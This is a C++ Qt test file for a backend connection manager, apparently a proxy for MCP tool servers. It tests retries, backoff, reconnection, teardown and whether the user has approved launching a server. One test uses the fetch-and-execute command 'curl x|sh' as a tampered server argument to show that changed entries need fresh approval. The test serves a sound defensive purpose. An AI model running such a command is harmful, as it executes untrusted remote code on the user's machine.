// SPDX-FileCopyrightText: 2026 The Qonduit authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "backends/Backend.h"

#include "protocol/ProxyError.h"
#include "support/BackendFixture.h"

#include <QTest>

using namespace qonduit;
using namespace std::chrono_literals;
using State = Backend::State;

/// How a connection is made, lost, made again and given up.
class tst_BackendLife : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void B01_aProgramThatIsNotThereIsNotRetried();
    void B02_restartsAreLimited();
    void B05_refusalsAreFinal_data();
    void B05_refusalsAreFinal();
    void B05_anAnswerToAnotherIdIsIgnoredThenTimeout();
    void D12_withoutApprovalNothingIsOpened();
    void D14_anEntryThatIsNotTheApprovedOneAsksAgain();
    void D14_anApprovalIsAskedForAgainBeforeEachStart();
    void theBackoffDoubles();
    void theCountIsClearedAfterAMinuteOfHealth();
    void theCountIsKeptWithoutHealth();
    void httpIsRetriedForEver();
    void aCallDuringTheBackoffTriesAtOnce();
    void reconnectDropsTheConnection();
    void reconnectWorksFromTheErrorState();
    void reconnectSharesAnAttemptUnderWay();
    void aCallMadeWhenReconnectEndsAnotherWaitsForTheNewConnection();
    void aCallMadeWhenTheServerGoesWaitsForTheNewConnection();
    void restartsCanBeSwitchedOff();
    void destructionEndsEveryWait_data();
    void destructionEndsEveryWait();
    void destructionTakesLeave();
    void theListenerMayDestroyTheBackend_data();
    void theListenerMayDestroyTheBackend();
};

void tst_BackendLife::B01_aProgramThatIsNotThereIsNotRetried()
{
    BackendFixture fixture;
    fixture.channels.failure = Error(ErrorCode::Unavailable, QStringLiteral("no such program"));
    auto &backend = fixture.make();
    const Collected ready(backend.ready());
    turnEventLoop();
    QCOMPARE(ready->error().code, int(ProxyErrorCode::BackendUnavailable));
    QVERIFY(backend.status().state == State::Error);
    QVERIFY(backend.status().lastError.contains(QStringLiteral("no such program")));
    fixture.clock.advance(24h);
    turnEventLoop();
    QCOMPARE(fixture.channels.made, 1);
    const auto call = fixture.call();
    QCOMPARE(call->answer().value().error().code, int(ProxyErrorCode::BackendUnavailable));
    QCOMPARE(fixture.channels.made, 1);
}

/// tools.md: 5 attempts, 1 s, doubled. They follow the first start.
void tst_BackendLife::B02_restartsAreLimited()
{
    BackendFixture fixture;
    fixture.channels.failure = Error(ErrorCode::BadReply, QStringLiteral("exited with 1"));
    auto &backend = fixture.make();
    Collected(backend.ready());
    turnEventLoop();
    for (int second = 0; second < 600; ++second) {
        fixture.clock.advance(1s);
        turnEventLoop();
    }
    QCOMPARE(fixture.channels.made, 1 + 5);
    QVERIFY(backend.status().state == State::Error);
    QCOMPARE(fixture.log.events.count("restart_failed"), 1);
}

void tst_BackendLife::B05_refusalsAreFinal_data()
{
    QTest::addColumn<QByteArray>("result");
    QTest::addColumn<QString>("said");
    QTest::newRow("error") << QByteArray() << "refused";
    QTest::newRow("version") << QByteArray(R"({"protocolVersion":"1999-01-01","capabilities":{}})")
                             << "unsupported version";
}

void tst_BackendLife::B05_refusalsAreFinal()
{
    QFETCH(QByteArray, result);
    QFETCH(QString, said);
    BackendFixture fixture;
    if (result.isEmpty())
        fixture.channels.script.initializeError = Error(ErrorCode::InternalError, QStringLiteral("go away"));
    else
        fixture.channels.script.initializeResult = result;
    auto &backend = fixture.make();
    const Collected ready(backend.ready());
    turnEventLoop();
    QVERIFY(backend.status().state == State::Error);
    QVERIFY2(ready->error().message.contains(said), qPrintable(ready->error().message));
    fixture.clock.advance(1h);
    turnEventLoop();
    QCOMPARE(fixture.channels.made, 1);
    QVERIFY(fixture.channels.latest().isClosed);
}

void tst_BackendLife::B05_anAnswerToAnotherIdIsIgnoredThenTimeout()
{
    BackendFixture fixture;
    fixture.channels.script.answersInitialize = false;
    auto &backend = fixture.make();
    const Collected ready(backend.ready());
    turnEventLoop();
    fixture.channels.latest().respond("7", fixture.channels.script.initializeResult);
    turnEventLoop();
    QVERIFY(!ready.hasEnded());
    fixture.clock.advance(30s);
    turnEventLoop();
    QCOMPARE(ready->error().code, int(ProxyErrorCode::BackendUnavailable)); // no call of anybody's was sent
    QVERIFY(ready->error().message.contains(QStringLiteral("no answer within 30 s")));
    QVERIFY(fixture.channels.latest().cancelled().isEmpty()); // initialize is not cancelled
}

void tst_BackendLife::D12_withoutApprovalNothingIsOpened()
{
    BackendFixture fixture;
    fixture.approver.approvesAll = false;
    auto &backend = fixture.make();
    QList<Collected<Result<>>> waiting;
    for (int i = 0; i < 100; ++i)
        waiting.append(backend.ready());
    turnEventLoop();
    fixture.clock.advance(4min);
    QCOMPARE(fixture.approver.asked.size(), 1);
    QCOMPARE(fixture.channels.made, 0);
    fixture.approver.decision.settle(Error(ErrorCode::Rejected, QStringLiteral("the user said no")));
    turnEventLoop();
    for (const auto &one : waiting)
        QCOMPARE(one->error().code, int(ProxyErrorCode::ApprovalDenied));
    QCOMPARE(fixture.channels.made, 0);
    QVERIFY(backend.status().state == State::NotConnected);
    fixture.clock.advance(24h);
    turnEventLoop();
    QCOMPARE(fixture.channels.made, 0);
}

void tst_BackendLife::D14_anEntryThatIsNotTheApprovedOneAsksAgain()
{
    BackendFixture fixture;
    fixture.approver.approvesAll = false;
    fixture.approver.approved.insert(fixture.config.fingerprint());
    fixture.config.arguments = { QStringLiteral("-c"),
                                 QStringLiteral("curl x|sh") }; // edited after the person said yes
    auto &backend = fixture.make();
    const Collected ready(backend.ready());
    turnEventLoop();
    QCOMPARE(fixture.approver.asked.size(), 1);
    QCOMPARE(fixture.approver.asked[0].arguments, fixture.config.arguments);
    QCOMPARE(fixture.channels.made, 0);
    fixture.approver.decision.settle({});
    turnEventLoop();
    QVERIFY(ready->has_value());
    QCOMPARE(fixture.channels.madeFor[0].fingerprint(), fixture.config.fingerprint());
}

void tst_BackendLife::D14_anApprovalIsAskedForAgainBeforeEachStart()
{
    BackendFixture fixture;
    auto &backend = fixture.connected();
    fixture.approver.approvesAll = false; // taken back
    const Collected ready(backend.reconnect());
    turnEventLoop();
    QCOMPARE(fixture.approver.asked.size(), 1);
    QCOMPARE(fixture.channels.made, 1);
    fixture.approver.decision.settle(Error(ErrorCode::Rejected, QStringLiteral("no")));
    QVERIFY(!ready->has_value());
}

void tst_BackendLife::theBackoffDoubles()
{
    BackendFixture fixture;
    auto &backend = fixture.connected();
    fixture.channels.failure = Error(ErrorCode::BadReply, QStringLiteral("broken"));
    fixture.channels.latest().crash();
    turnEventLoop();
    int made = 1;
    for (const auto delay : { 1s, 2s, 4s, 8s, 16s }) {
        QVERIFY(backend.status().state == State::Reconnecting);
        QCOMPARE(backend.status().nextRetryAt, fixture.clock.utcNow().addSecs(delay.count()));
        fixture.clock.advance(delay - 1ms);
        turnEventLoop();
        QCOMPARE(fixture.channels.made, made);
        fixture.clock.advance(1ms);
        turnEventLoop();
        QCOMPARE(fixture.channels.made, ++made);
    }
    QVERIFY(backend.status().state == State::Error);
    QVERIFY(!backend.status().nextRetryAt.isValid());
}

void tst_BackendLife::theCountIsClearedAfterAMinuteOfHealth()
{
    BackendFixture fixture;
    auto &backend = fixture.connected();
    for (int round = 0; round < 20; ++round) {
        fixture.clock.advance(60s);
        fixture.channels.latest().crash();
        turnEventLoop();
        QCOMPARE(backend.status().attempt, 1);
        fixture.clock.advance(1s);
        turnEventLoop();
        QVERIFY(backend.status().state == State::Connected);
    }
}

/// B03: a server that comes up and goes again at once is limited as one that does not come up.
void tst_BackendLife::theCountIsKeptWithoutHealth()
{
    BackendFixture fixture;
    auto &backend = fixture.connected();
    for (int second = 0; second < 300; ++second) {
        if (backend.status().state == State::Connected)
            fixture.channels.latest().crash();
        turnEventLoop();
        fixture.clock.advance(1s);
        turnEventLoop();
    }
    QCOMPARE(fixture.channels.made, 1 + 5);
    QVERIFY(backend.status().state == State::Error);
}

void tst_BackendLife::httpIsRetriedForEver()
{
    BackendFixture fixture;
    fixture.config.transport = ServerConfig::Transport::StreamableHttp;
    fixture.config.url = QUrl(QStringLiteral("http://127.0.0.1:1/mcp"));
    fixture.channels.failure = Error(ErrorCode::Unavailable, QStringLiteral("connection refused"));
    auto &backend = fixture.make();
    Collected(backend.ready());
    turnEventLoop();
    for (int minute = 0; minute < 600; ++minute) {
        fixture.clock.advance(1min);
        turnEventLoop();
        const auto wait = fixture.clock.utcNow().msecsTo(backend.status().nextRetryAt);
        QVERIFY2(wait <= 198000, "at most 180 s, give or take a tenth");
    }
    QVERIFY(backend.status().state == State::Reconnecting);
    QVERIFY(fixture.channels.made > 600 / 5);
}

void tst_BackendLife::aCallDuringTheBackoffTriesAtOnce()
{
    BackendFixture fixture;
    auto &backend = fixture.connected();
    fixture.channels.latest().crash();
    turnEventLoop();
    QVERIFY(backend.status().state == State::Reconnecting);
    const auto call = fixture.call();
    QVERIFY(call->answer().isSettled() && call->answer().value().has_value());
    QCOMPARE(fixture.channels.made, 2);
    QCOMPARE(fixture.log.events.count("restarted"), 1);
    fixture.clock.advance(1min); // the planned attempt is off
    turnEventLoop();
    QCOMPARE(fixture.channels.made, 2);
}

void tst_BackendLife::reconnectDropsTheConnection()
{
    BackendFixture fixture;
    fixture.channels.script.answersCalls = false;
    auto &backend = fixture.connected();
    const auto call = fixture.call();
    const Collected ready(backend.reconnect());
    turnEventLoop();
    QVERIFY(ready->has_value());
    QCOMPARE(call->answer().value().error().code, int(ProxyErrorCode::BackendLost));
    QCOMPARE(fixture.channels.made, 2);
    QVERIFY(fixture.channels.servers[0]->isClosed);
    QVERIFY(fixture.departures.isEmpty());
}

void tst_BackendLife::reconnectWorksFromTheErrorState()
{
    BackendFixture fixture;
    fixture.channels.failure = Error(ErrorCode::Unavailable, QStringLiteral("no such program"));
    auto &backend = fixture.make();
    Collected(backend.ready());
    turnEventLoop();
    fixture.channels.failure.reset(); // mended
    const Collected ready(backend.reconnect());
    turnEventLoop();
    QVERIFY(ready->has_value());
    QVERIFY(backend.status().state == State::Connected);
    QVERIFY(backend.status().lastError.isEmpty());
}

void tst_BackendLife::reconnectSharesAnAttemptUnderWay()
{
    BackendFixture fixture;
    auto &backend = fixture.make();
    const Collected first(backend.ready());
    const Collected second(backend.reconnect());
    const Collected third(backend.reconnect());
    turnEventLoop();
    QVERIFY(first->has_value() && second->has_value() && third->has_value());
    QCOMPARE(fixture.channels.made, 1);
}

void tst_BackendLife::aCallMadeWhenReconnectEndsAnotherWaitsForTheNewConnection()
{
    BackendFixture fixture;
    fixture.channels.script.answersCalls = false;
    auto &backend = fixture.connected();
    fixture.channels.script.answersCalls = true;
    std::shared_ptr<BackendCall> again;
    const auto call = fixture.call();
    call->answer().whenSettled([&] { again = backend.callTool(QStringLiteral("work"), RawJson::emptyObject(), {}); });
    const Collected ready(backend.reconnect());
    turnEventLoop();
    QVERIFY(ready->has_value());
    QVERIFY(again && again->answer().isSettled());
    QVERIFY(again->answer().value().has_value());
}

void tst_BackendLife::aCallMadeWhenTheServerGoesWaitsForTheNewConnection()
{
    BackendFixture fixture;
    fixture.channels.script.answersCalls = false;
    auto &backend = fixture.connected();
    fixture.channels.script.answersCalls = true;
    std::shared_ptr<BackendCall> again;
    const auto call = fixture.call();
    call->answer().whenSettled([&] { again = backend.callTool(QStringLiteral("work"), RawJson::emptyObject(), {}); });
    fixture.channels.latest().crash();
    turnEventLoop();
    QVERIFY(again && again->answer().isSettled()); // it may fail, but it must say so
    if (!again->answer().value())
        QCOMPARE(errorData(again->answer().value().error(), "sent").toBool(), std::optional(false));
}

void tst_BackendLife::restartsCanBeSwitchedOff()
{
    BackendFixture fixture;
    fixture.config.restart.enabled = false;
    auto &backend = fixture.connected();
    fixture.channels.latest().crash();
    turnEventLoop();
    fixture.clock.advance(1h);
    turnEventLoop();
    QCOMPARE(fixture.channels.made, 1);
    QVERIFY(backend.status().state == State::Error);
}

void tst_BackendLife::destructionEndsEveryWait_data()
{
    QTest::addColumn<QString>("at");
    for (const auto *at : { "approval", "preparation", "opening", "handshake", "tools", "call", "backoff" })
        QTest::newRow(at) << QString::fromLatin1(at);
}

void tst_BackendLife::destructionEndsEveryWait()
{
    QFETCH(QString, at);
    BackendFixture fixture;
    fixture.approver.approvesAll = at != QStringLiteral("approval");
    if (at == QStringLiteral("preparation"))
        fixture.channels.preparing.emplace();
    fixture.channels.script.answersInitialize = at != QStringLiteral("handshake");
    fixture.channels.script.answersToolsList = at != QStringLiteral("tools");
    fixture.channels.script.answersCalls = false;
    auto &backend = fixture.make();
    const Collected ready(backend.ready());
    const Collected tools(backend.list(CatalogueList::Kind::Tools));
    const auto call = backend.callTool(QStringLiteral("work"), RawJson::emptyObject(), {});
    if (at != QStringLiteral("opening"))
        turnEventLoop();
    if (at == QStringLiteral("backoff")) {
        fixture.channels.latest().crash();
        turnEventLoop();
    }
    fixture.backend.reset();
    turnEventLoop();
    QVERIFY(ready.hasEnded());
    QVERIFY(tools.hasEnded());
    QVERIFY(call->answer().isSettled());
    QVERIFY(!call->answer().value().has_value());
    const auto &error = call->answer().value().error();
    QVERIFY2(error.code == int(ProxyErrorCode::BackendLost) || error.code == int(ProxyErrorCode::BackendUnavailable),
             "an error that a client may see");
    fixture.approver.decision.settle({});
    if (fixture.channels.preparing)
        fixture.channels.preparing->settle(fixture.config);
    fixture.clock.advance(1h);
    turnEventLoop();
    QVERIFY(fixture.channels.made <= 1);
    QVERIFY(fixture.departures.isEmpty());
}

void tst_BackendLife::destructionTakesLeave()
{
    BackendFixture fixture;
    fixture.connected();
    fixture.backend.reset();
    turnEventLoop();
    QVERIFY(fixture.channels.latest().isClosed);
    QVERIFY(fixture.departures.isEmpty());
}

void tst_BackendLife::theListenerMayDestroyTheBackend_data()
{
    QTest::addColumn<QByteArray>("event");
    for (const auto *event : { "server_connecting", "server_connected", "server_disconnected", "restarting",
                               "restart_failed", "server_refused" })
        QTest::newRow(event) << QByteArray(event);
}

void tst_BackendLife::theListenerMayDestroyTheBackend()
{
    QFETCH(QByteArray, event);
    BackendFixture fixture;
    fixture.approver.approvesAll = event != "server_refused";
    fixture.approver.decision.settle(Error(ErrorCode::Rejected, QStringLiteral("no")));
    if (event == "restart_failed")
        fixture.channels.failure = Error(ErrorCode::Unavailable, QStringLiteral("no such program"));
    fixture.make();
    fixture.log.onChange = [&](const QByteArray &happened) {
        if (happened == event)
            fixture.backend.reset();
    };
    const Collected ready(fixture.backend->ready());
    turnEventLoop();
    if (fixture.backend) {
        fixture.channels.latest().crash();
        turnEventLoop();
    }
    QVERIFY(fixture.log.events.contains(event));
    QVERIFY(!fixture.backend);
    QVERIFY(ready.hasEnded());
    fixture.clock.advance(1h);
    turnEventLoop();
    QVERIFY(fixture.channels.made <= 1);
}

QTEST_GUILESS_MAIN(tst_BackendLife)
#include "tst_BackendLife.moc"
